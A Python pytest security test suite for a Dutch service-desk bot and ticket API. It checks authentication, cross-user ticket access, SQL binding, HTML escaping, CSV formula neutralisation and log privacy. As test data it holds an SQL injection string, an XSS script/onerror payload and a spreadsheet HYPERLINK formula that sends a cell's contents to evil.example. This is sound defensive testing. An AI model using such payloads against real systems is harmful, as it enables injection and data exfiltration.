"""What an attacker would try (docs/SECURITY.md): the ticket API without its token, another
employee's ticket, text meant for SQL, HTML or a spreadsheet, personal data in logs.

Runs on SQLite always and on PostgreSQL too when FRONTOFFICE_TEST_PG_URL is set.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from aiohttp.test_utils import TestClient, TestServer

from backoffice_adapter.topdesk import TopdeskBackOffice
from bot.app import create_app
from frontoffice.cli import main
from frontoffice.logs import JsonFormatter
from frontoffice.report import spreadsheet_safe
from frontoffice.settings import Settings
from servicedesk.tickets import Actor, Channel, Deadlines, Event, EventType, Requester, Ticket
from tests.chat import Chat

TOKEN = "s3cret-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
ADA, BOB = "aad-user-1", "aad-user-2"
SQLISH = "Robert'); DROP TABLE tickets;-- \" \\ % _ ' OR '1'='1 /* */ $1 ? :name"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.fixture
async def api(db_url: str) -> AsyncIterator[TestClient]:
    settings = Settings(
        db_url=db_url,
        knowledge_reload_seconds=0,
        api_token=TOKEN,
        outbox_seconds=0,
        poll_seconds=0,
        notify_seconds=0,
    )
    async with TestClient(TestServer(create_app(settings))) as client:
        yield client


def _heating(requester: str = ADA, name: str = "Ada", **fields: Any) -> dict[str, Any]:
    return {
        "product": "storing.verwarming",
        "requester": {"id": requester, "name": name, "email": "ada@rivierstad.nl"},
        "channel": "phone",
        "fields": {"location": "Stadskantoor, kamer 2.14", **fields},
        "description": "Geheime omschrijving: de radiator lekt",
    }


async def _create(api: TestClient, body: dict[str, Any]) -> dict[str, Any]:
    response = await api.post("/api/v1/tickets", json=body, headers=AUTH)
    assert response.status == 201, await response.text()
    ticket: dict[str, Any] = await response.json()
    return ticket


# -- the ticket API ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": "Bearer"},
        {"Authorization": "Bearer "},
        {"Authorization": "Bearer wrong"},
        {"Authorization": f"Bearer {TOKEN}x"},
        {"Authorization": f"Basic {TOKEN}"},
        {"Authorization": TOKEN},
        {"X-Api-Token": TOKEN},
    ],
)
async def test_the_ticket_api_without_the_right_token_is_401_and_reveals_nothing(
    api: TestClient, headers: dict[str, str]
) -> None:
    number = (await _create(api, _heating()))["number"]
    for method, path in (
        ("GET", f"/api/v1/tickets/{number}"),
        ("GET", "/api/v1/tickets"),
        ("GET", f"/api/v1/tickets?requester={ADA}&token={TOKEN}"),
        ("POST", f"/api/v1/tickets/{number}/events"),
        ("POST", "/api/v1/tickets"),
    ):
        body = {"type": "cancel", "actor": {"id": "x"}} if method == "POST" else None
        response = await api.request(method, path, headers=headers, json=body)
        text = await response.text()
        assert response.status == 401, (method, path)
        assert "radiator" not in text and "Ada" not in text and number not in text
    listed = await api.get("/api/v1/tickets", headers=AUTH)
    assert [t["status"] for t in (await listed.json())["tickets"]] == ["new"]


async def test_a_closed_api_refuses_even_an_empty_bearer(db_url: str) -> None:
    settings = Settings(db_url=db_url, knowledge_reload_seconds=0, api_token="")
    async with TestClient(TestServer(create_app(settings))) as client:
        for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer None"}):
            response = await client.get("/api/v1/tickets", headers=headers)
            assert response.status == 401


# -- another employee's ticket through chat -------------------------------------------------------


async def test_another_employees_ticket_reveals_nothing_and_takes_nothing_in_chat(
    api: TestClient,
) -> None:
    number = (await _create(api, _heating()))["number"]
    before = await (await api.get(f"/api/v1/tickets/{number}", headers=AUTH)).json()
    bob = Chat(api, user=BOB, name="Bob", conversation="a:personal-bob")
    said: list[str] = []
    for text in (
        f"status {number}",
        f"wat is de status van {number.lower()}",
        f"{number}: ik wil dit ook even aanvullen",
        f"annuleer {number}",
        f"heropen {number}",
    ):
        await bob.say(text)
        said.append(bob.text())
    for verb in ("mine.status", "mine.cancel", "mine.reopen", "mine.keep", "duplicate.follow"):
        forged = {"ticket": number, "duplicate": number, "intake": "x"}
        said.append(json.dumps(await bob.click(verb, forged), ensure_ascii=False))
    await bob.say("mijn meldingen")  # a forged follow would list it here
    said.append(bob.text())
    everything = "\n".join(said)
    assert "radiator" not in everything and "Verwarming" not in everything
    assert "Stadskantoor" not in everything and "ada@rivierstad" not in everything
    assert "Geheime" not in everything
    after = await (await api.get(f"/api/v1/tickets/{number}", headers=AUTH)).json()
    assert (after["status"], len(after["events"])) == (before["status"], len(before["events"]))


# -- SQL: every text is a bound parameter -----------------------------------------------------


async def test_sql_like_text_is_stored_and_read_back_verbatim(api: TestClient) -> None:
    body = _heating(requester=SQLISH, name=SQLISH, location=SQLISH)
    body["description"] = SQLISH
    created = await _create(api, body)
    read = await (await api.get(f"/api/v1/tickets/{created['number']}", headers=AUTH)).json()
    assert read["requester"]["id"] == SQLISH and read["requester"]["name"] == SQLISH
    assert read["fields"]["location"] == SQLISH and read["fields"]["description"] == SQLISH
    await _create(api, _heating(requester=BOB))
    for requester in ("' OR '1'='1", "%", "_", SQLISH[:9]):
        listed = await api.get("/api/v1/tickets", params={"requester": requester}, headers=AUTH)
        assert (await listed.json())["tickets"] == [], requester
    listed = await api.get("/api/v1/tickets", params={"requester": SQLISH}, headers=AUTH)
    assert [t["number"] for t in (await listed.json())["tickets"]] == [created["number"]]
    everyone = await api.get("/api/v1/tickets", headers=AUTH)
    assert len((await everyone.json())["tickets"]) == 2  # no table was dropped


async def test_sql_like_text_in_a_chat_lands_verbatim_in_the_ticket(api: TestClient) -> None:
    ada = Chat(api)
    await ada.say(f"de verwarming doet het niet. {SQLISH}")
    await ada.say("Stadskantoor, kamer 2.14")
    assert "Klopt dit" in ada.text()
    await ada.press("Bevestigen")
    [ticket] = (await (await api.get("/api/v1/tickets", headers=AUTH)).json())["tickets"]
    assert ticket["fields"]["description"].endswith(SQLISH)


# -- HTML: the only HTML we write is TOPdesk's request text ---------------------------------------


def test_html_sent_to_topdesk_is_escaped() -> None:
    at = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    ticket = Ticket.open(
        number="FM-2026-000123",
        requester=Requester(id="aad-1", name=hostile, email="<b>@example.org", language="nl"),
        product_id="storing.verwarming",
        queue="technische-dienst",
        kwis="storing",
        priority="P3",
        channel=Channel.CHAT,
        fields={"location": hostile, "description": hostile, "visitors": [hostile]},
        charge=None,
        at=at,
        deadlines=Deadlines(at + timedelta(hours=4), at + timedelta(days=3)),
    )
    adapter = TopdeskBackOffice(
        "http://127.0.0.1:9",
        "login",
        "password",
        operator_group="Technische dienst",
        priority_map={"P3": "P3 Normaal"},
        category="Gebouw",
        subcategory="Klimaat",
        call_type="Storing",
    )
    html = adapter.request_html(ticket)
    assert "<script" not in html and "<img" not in html and "<b>@" not in html
    assert "&lt;script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    note = Event(EventType.PROGRESS, at, Actor("staff-1", "Bea"), note=hostile)
    pushed = json.dumps(adapter.push_body(ticket, note))
    assert "<script" not in pushed and "&lt;script&gt;" in pushed


# -- CSV: no formulas for the spreadsheet -------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-", "-"),
        ("KP-4711", "KP-4711"),
        ("catering.lunch", "catering.lunch"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


async def test_the_chargeback_csv_neutralises_a_formula_in_a_cost_centre(
    api: TestClient, db_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    when = (datetime.now(UTC) + timedelta(days=7)).replace(hour=11, minute=0, microsecond=0)
    body = {
        "product": "catering.lunch",
        "requester": {"id": ADA, "name": "Ada"},
        "channel": "phone",
        "fields": {
            "location": "Stadskantoor, kamer 2.14",
            "when": when.isoformat(),
            "persons": 4,
            "cost_centre": FORMULA,
        },
        "description": "Werklunch voor vier",
    }
    number = (await _create(api, body))["number"]
    for step in ("accept", "resolve"):
        response = await api.post(
            f"/api/v1/tickets/{number}/events",
            json={"type": step, "actor": {"id": "staff-1", "name": "Bea"}, "note": "klaar"},
            headers=AUTH,
        )
        assert response.status == 200, await response.text()
    today = datetime.now(ZoneInfo("Europe/Amsterdam")).date().isoformat()
    args = ["report", "--db", db_url, "--from", today, "--to", today, "--format", "csv"]
    code = await asyncio.to_thread(main, args)  # the command runs its own event loop
    assert code == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    [row] = [r for r in rows[1:] if r[1] == "catering.lunch"]
    assert row[0] == "'" + FORMULA
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r)


# -- logs at INFO ----------------------------------------------------------------------------


async def test_a_refused_download_logs_no_url_or_name(
    api: TestClient, caplog: pytest.CaptureFixture[str]
) -> None:
    url = "https://evil.example/personal/ada_rivierstad_nl/bezoekers.csv"
    ada = Chat(api, name="Ada Lovelace")
    with caplog.at_level(logging.INFO):
        await ada.say(
            "",
            attachments=[
                {
                    "contentType": "application/vnd.microsoft.teams.file.download.info",
                    "name": "bezoekers-ada.csv",
                    "content": {"downloadUrl": url, "fileType": "csv"},
                }
            ],
        )
    assert "kon ik niet ophalen" in ada.text()
    logged = "\n".join(
        f"{r.getMessage()} {r.__dict__}" for r in caplog.records if r.levelno >= logging.INFO
    )
    assert "attachment download refused" in logged
    for personal in ("evil.example", "ada_rivierstad", "Lovelace", "bezoekers-ada"):
        assert personal not in logged


async def test_a_whole_intake_and_an_api_ticket_log_nothing_personal_at_info(
    api: TestClient,
) -> None:
    """Every INFO line (extras included, as the JSON formatter writes them) of an intake
    in chat, its confirmation click and a ticket through the API."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonFormatter())
    root = logging.getLogger()
    previous = root.level
    root.addHandler(handler)
    root.setLevel(logging.INFO)
    try:
        ada = Chat(api, name="Adalinde Vermeulen")
        await ada.say("de verwarming in het Stadskantoor doet het niet, het is ijskoud bij Piet")
        await ada.say("kamer 2.14")
        await ada.press("Bevestigen")
        await _create(api, _heating(name="Adalinde Vermeulen"))
    finally:
        root.removeHandler(handler)
        root.setLevel(previous)
    logged = stream.getvalue()
    assert logged.count("\n") >= 2  # the turns were logged
    for personal in ("Adalinde", "Vermeulen", "ijskoud", "Piet", "ada@rivierstad", "radiator"):
        assert personal not in logged
